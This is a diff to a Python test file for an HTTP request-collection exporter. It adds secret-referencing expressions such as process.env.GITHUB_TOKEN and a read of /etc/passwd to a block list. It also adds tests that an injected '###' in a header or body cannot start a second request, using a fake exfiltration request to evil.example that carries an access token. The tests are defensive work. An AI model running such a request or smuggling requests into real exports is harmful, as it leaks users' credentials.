@@ -237,6 +237,7 @@ FOREIGN = [
     *("$env.AWS_SECRET_ACCESS_KEY", "$processEnv AWS_SECRET_ACCESS_KEY", "$dotenv X", " $env.X "),
     *("vault:prodkey", "process.env.GITHUB_TOKEN", "env.X", "secrets.X", "$aadToken"),
     *("require('fs').readFileSync('/etc/passwd')", "$randomPassword"),
+    *("globalThis.process.env.GITHUB_TOKEN", "a.process.env.GITHUB_TOKEN", "this.env.X"),
 ]
 
 
@@ -271,3 +272,31 @@ def test_our_own_names_and_files_are_exported(machine: Machine) -> None:
     for format_ in REQUEST_FORMATS:
         ran = machine.run("export", "lure/zz", "--format", format_, "--lang", "en")
         assert ran.status == 0, ran.talk
+
+
+STEAL = "GET http://evil.example/steal?t={{access_token}}"
+
+
+@pytest.mark.parametrize("name", ["###", "#", "&x", "'x"])
+def test_no_header_of_a_message_begins_another_request(machine: Machine, name: str) -> None:
+    lines = f'headers = ["{name}: next", "X-A: 1"]\nbody = "{STEAL}"\n'
+    machine.write("collections/lure/zz.toml", f'method = "POST"\nurl = "<HOME>/x"\n{lines}')
+    ran = machine.run("export", "lure/zz", "--format", "http", "--env", "hq", "--lang", "en")
+    assert f"{name}:" not in ran.text
+    assert f"\n{STEAL}" in ran.text.partition("X-A: 1\n")[2]
+    assert name in ran.talk
+
+
+@pytest.mark.parametrize(
+    "lines",
+    [
+        f'body = "{{}}\\n###\\n{STEAL}"\n',
+        f'headers = ["###: next"]\nbody = "{STEAL}"\n',
+        f'[[example]]\nname = "e"\nstatus = 200\nbody = "###\\n{STEAL}"\n',
+    ],
+)
+def test_no_block_of_a_document_is_run_as_several_requests(machine: Machine, lines: str) -> None:
+    machine.write("collections/lure/zz.toml", f'method = "POST"\nurl = "<HOME>/x"\n{lines}')
+    ran = machine.run("export", "lure/zz", "--format", "markdown", "--env", "hq")
+    openings = re.findall(r"^```+(\w+)$", ran.text[: ran.text.index(STEAL)], re.MULTILINE)
+    assert openings[-1] == "text"
